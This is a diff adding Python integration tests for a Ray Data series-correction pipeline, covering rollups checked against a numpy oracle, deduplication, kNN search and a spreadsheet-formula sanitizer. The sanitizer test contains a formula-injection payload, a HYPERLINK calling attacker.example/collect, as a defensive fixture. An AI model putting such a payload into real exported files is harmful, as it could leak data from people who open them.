@@ -1,0 +1,198 @@
+"""Ray Data stage/pipeline integration tests (sf0.001, shared Ray session)."""
+
+import numpy as np
+import pandas as pd
+import pyarrow as pa
+import pytest
+
+from series_correction_project_updated_ray import kernels as K
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _ray(ray_session):
+    yield
+
+
+def test_sequences_schema_and_determinism(sf_dir):
+    from series_correction_project_updated_ray.sources.sequences import (
+        sequences_from_documents)
+    a = sequences_from_documents(sf_dir).to_pandas().sort_values("doc_id")
+    b = sequences_from_documents(sf_dir).to_pandas().sort_values("doc_id")
+    assert list(a.columns) == ["doc_id", "tokens", "n_tok", "source"]
+    assert (a["n_tok"] > 0).any()
+    for x, y in zip(a["tokens"], b["tokens"]):
+        np.testing.assert_array_equal(np.asarray(x), np.asarray(y))
+
+
+def test_corrected_sequences_token_invariant(sf_dir):
+    from series_correction_project_updated_ray.pipelines.flagship import (
+        flagship_corrected)
+    from series_correction_project_updated_ray.sources.sequences import (
+        sequences_from_documents)
+    corr = flagship_corrected(sf_dir, buckets_per_source=8).to_pandas()
+    orig = sequences_from_documents(sf_dir).to_pandas()
+    merged = corr.merge(orig, on="doc_id", suffixes=("", "_orig"))
+    assert len(merged) == len(orig)
+    for tok, tok_orig, cv, nt in zip(merged["tokens"], merged["tokens_orig"],
+                                     merged["corrected"], merged["n_tok"]):
+        np.testing.assert_array_equal(np.asarray(tok), np.asarray(tok_orig))
+        assert len(np.asarray(cv)) == nt
+
+
+def test_flagship_rollup_matches_numpy_oracle(sf_dir):
+    """Whole distributed pipeline vs a single-process numpy recomputation."""
+    from series_correction_project_updated_ray.pipelines.flagship import (
+        flagship_rollup)
+    from series_correction_project_updated_ray.sources.sequences import (
+        sequences_from_documents)
+    from series_correction_project_updated_ray.stages.correction import (
+        SERIES_STEP_SECONDS, add_series_key, tokens_to_values)
+
+    got = flagship_rollup(sf_dir, buckets_per_source=8).to_pandas()
+
+    seqs = sequences_from_documents(sf_dir).map_batches(
+        add_series_key, batch_format="pyarrow",
+        fn_kwargs={"buckets_per_source": 8}).to_pandas()
+    rows = []
+    for key, g in seqs.groupby("series_key"):
+        g = g.sort_values("doc_id")
+        flat = np.concatenate([np.asarray(t, dtype=np.int32)
+                               for t in g["tokens"]])
+        v = tokens_to_values(flat)
+        t = np.arange(len(v), dtype=np.int64) * SERIES_STEP_SECONDS
+        t, v = K.process_series(t, v)
+        partial = None
+        for tier, width in (("1m", 60), ("1h", 3600), ("1d", 86400)):
+            partial = (K.rollup_series(t, v, width) if partial is None
+                       else K.rollup_cascade(partial, width))
+            for i in range(len(partial["window_start"])):
+                rows.append((key, tier, int(partial["window_start"][i]),
+                             partial["min"][i], partial["max"][i],
+                             partial["sum"][i], int(partial["count"][i])))
+    want = pd.DataFrame(rows, columns=["series_key", "tier", "window_start",
+                                       "vmin", "vmax", "vsum", "vcount"])
+    got_s = got.sort_values(["series_key", "tier", "window_start"]
+                            ).reset_index(drop=True)
+    want_s = want.sort_values(["series_key", "tier", "window_start"]
+                              ).reset_index(drop=True)
+    assert len(got_s) == len(want_s)
+    np.testing.assert_array_equal(got_s["vcount"], want_s["vcount"])
+    np.testing.assert_allclose(got_s["vmin"], want_s["vmin"])
+    np.testing.assert_allclose(got_s["vmax"], want_s["vmax"])
+    np.testing.assert_allclose(got_s["vsum"], want_s["vsum"], rtol=1e-12)
+
+
+def test_rollup_tiers_cascade_consistency(sf_dir):
+    import ray.data as rd
+    from series_correction_project_updated_ray.stages.rollup import (
+        rollup_events, rollup_tiers)
+    ev = rd.read_parquet(f"{sf_dir}/events.parquet",
+                         columns=["event_type", "ts", "value"])
+    tiers = rollup_tiers(ev)
+    direct_1d = rollup_events(
+        rd.read_parquet(f"{sf_dir}/events.parquet",
+                        columns=["event_type", "ts", "value"]),
+        width=86400).to_pandas()
+    cascaded_1d = tiers["1d"].to_pandas()
+    key = ["event_type", "window_start"]
+    a = cascaded_1d.sort_values(key).reset_index(drop=True)
+    b = direct_1d.sort_values(key).reset_index(drop=True)
+    assert len(a) == len(b)
+    np.testing.assert_array_equal(a["vcount"], b["vcount"])
+    np.testing.assert_allclose(a["vmin"], b["vmin"])
+    np.testing.assert_allclose(a["vmax"], b["vmax"])
+    np.testing.assert_allclose(a["vsum"], b["vsum"], atol=2e-6)
+
+
+def test_exact_dedup_with_injected_duplicates(ray_session):
+    import ray.data as rd
+    from series_correction_project_updated_ray.stages.dedup import (
+        exact_dedup_survivors)
+    df = pd.DataFrame({
+        "doc_id": [1, 2, 3, 4, 5, 6],
+        "text": ["aaa", "bbb", "aaa", "ccc", "bbb", "aaa"],
+    })
+    out = exact_dedup_survivors(rd.from_pandas(df)).to_pandas()
+    assert sorted(out["doc_id"]) == [1, 2, 4]
+
+
+def test_minhash_lsh_finds_near_duplicates(ray_session):
+    import ray.data as rd
+    from series_correction_project_updated_ray.stages.dedup import (
+        minhash_lsh_dedup)
+    base = ("the quick brown fox jumps over the lazy dog and then runs far "
+            "away into the deep dark forest to hide from hunters") * 3
+    near = base.replace("lazy", "sleepy")
+    other = ("completely different content about spark and ray data engines "
+             "processing large parquet tables with shuffles") * 3
+    df = pd.DataFrame({"doc_id": [10, 11, 12],
+                       "text": [base, near, other]})
+    clusters = minhash_lsh_dedup(rd.from_pandas(df), threshold=0.7)
+    assert set(clusters["doc_id"]) == {10, 11}
+    assert clusters["cluster_id"].nunique() == 1
+
+
+def test_knn_brute_force_matches_full_numpy(sf_dir):
+    import ray.data as rd
+    import pyarrow.parquet as pq
+    from series_correction_project_updated_ray.stages.similarity import (
+        knn_brute_force)
+    tbl = pq.read_table(f"{sf_dir}/embeddings.parquet")
+    M = np.stack([np.asarray(v, dtype=np.float64)
+                  for v in tbl["embedding"].to_pylist()])
+    ids = tbl["vec_id"].to_numpy()
+    q = M[0]
+    sims = (M @ q) / (np.linalg.norm(M, axis=1) * np.linalg.norm(q))
+    order = np.lexsort((ids, -sims))[:5]
+    want = set(ids[order].tolist())
+    got = knn_brute_force(
+        rd.read_parquet(f"{sf_dir}/embeddings.parquet"), q, k=5)
+    assert set(got["vec_id"]) == want
+
+
+def test_unpivot_roundtrip(ray_session):
+    import ray.data as rd
+    from series_correction_project_updated_ray.stages.relational import (
+        unpivot_threshold)
+    df = pd.DataFrame({"id": [1, 2], "a": [0.05, 1.0], "b": [2.0, -0.5]})
+    out = unpivot_threshold(rd.from_pandas(df), ["id"], ["a", "b"],
+                            threshold=0.1).to_pandas()
+    got = set(map(tuple, out[["id", "measure", "value"]].itertuples(index=False)))
+    assert got == {(2, "a", 1.0), (1, "b", 2.0), (2, "b", -0.5)}
+
+
+def test_sanitizer_vectors(ray_session):
+    """FIXTURES.md §F5 payloads through the Arrow sanitizer stage."""
+    import ray.data as rd
+    from series_correction_project_updated_ray.functions.sanitize import (
+        escape_spreadsheet_formula, sanitize_batch, validate_sheet_name)
+    payload = '=HYPERLINK("http://attacker.example/collect","click")'
+    df = pd.DataFrame({"text": [payload, "+1", "-2", "@cmd", "＝x", "safe",
+                                "'=already"]})
+    out = sanitize_batch(pa.Table.from_pandas(df)).to_pandas()
+    assert out["text"].tolist() == ["'" + payload, "'+1", "'-2", "'@cmd",
+                                    "'＝x", "safe", "'=already"]
+    # idempotent
+    assert escape_spreadsheet_formula("'" + payload) == "'" + payload
+    with pytest.raises(ValueError):
+        sanitize_batch(pa.table({"text": pa.array(["bad\x00byte"])}))
+    with pytest.raises(ValueError):
+        validate_sheet_name("x" * 32)
+    with pytest.raises(ValueError):
+        validate_sheet_name("a/b")
+    validate_sheet_name("ok name")
+
+
+def test_entry_smoke(ray_session):
+    import __ray_entry__ as E
+    ds = E.entry()
+    assert ds.count() > 0
+    names = set(ds.schema().names)
+    assert {"series_key", "tier", "window_start", "vmean"} <= names
+
+
+def test_queries_have_oracles_subset(ray_session):
+    import __ray_entry__ as E
+    qs, os_ = E.queries(), E.oracle_sql()
+    assert set(os_) <= set(qs)
+    assert len(os_) >= 12
